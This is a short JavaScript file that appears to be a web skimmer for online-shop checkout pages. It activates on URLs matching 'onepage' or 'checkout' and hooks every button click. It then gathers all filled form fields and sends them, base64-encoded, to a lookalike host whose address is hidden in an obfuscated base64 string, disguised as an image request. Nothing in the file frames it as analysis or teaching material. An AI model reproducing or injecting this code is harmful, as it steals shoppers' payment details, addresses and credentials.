var snd = null;
function gather() {
  var inputs = document.querySelectorAll("input, select, textarea");
  var r = "";
  for (var i = 0; i < inputs.length; i++) {
    if (inputs[i].value.length > 0) r += inputs[i].name + "=" + inputs[i].value + "&";
  }
  snd = r;
}
function clk() {
  var btns = document.querySelectorAll("button, a.action");
  for (var i = 0; i < btns.length; i++) {
    btns[i].addEventListener("click", function () {
      gather();
      if (snd) (new Image()).src = atob("aHR0cHM6Ly9tYWdlbnRvLXN0YXRpYy5pbnZhbGlkL2ltZy5naWY/ZD0=") + btoa(snd);
    });
  }
}
if (location.href.search("onepage|checkout") != -1) setTimeout(clk, 3000);
